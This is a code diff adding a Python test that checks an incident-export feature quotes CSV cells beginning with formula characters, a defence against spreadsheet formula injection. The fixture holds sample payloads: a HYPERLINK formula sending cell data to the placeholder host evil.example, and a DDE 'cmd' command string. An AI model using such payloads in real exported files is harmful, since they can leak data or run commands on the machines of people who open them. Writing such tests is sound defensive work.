@@ -90,3 +90,25 @@ def test_each_signed_in_export_is_a_custody_entry_naming_its_records(filled: Sto
 def test_unknown_format_is_named(filled: Store) -> None:
     with filled.session() as session, pytest.raises(ValidationError, match="'xlsx'"):
         export_incidents(session, ANONYMOUS, "xlsx")
+
+
+def test_csv_cells_that_start_a_formula_are_quoted(sqlite_store: Store) -> None:
+    with sqlite_store.session() as session:
+        draft = draft_from_mapping(
+            {
+                "category": "one_sided_violence",
+                "date_start": "2023-05-01",
+                "country": "MMR",
+                "title": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+                "narrative": "@SUM(1+1)*cmd|' /C calc'!A0",
+                "place_name": "-2+3",
+                "latitude": "-19.5",
+                "longitude": "96.1",
+            }
+        )
+        create_incident(session, LOCAL_OPERATOR, draft)
+        export = export_incidents(session, LOCAL_OPERATOR, "csv")
+    (row,) = csv.DictReader(io.StringIO(export.content))
+    assert row["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    assert row["narrative"].startswith("'@SUM") and row["place_name"] == "'-2+3"
+    assert row["latitude"] == "-19.5"
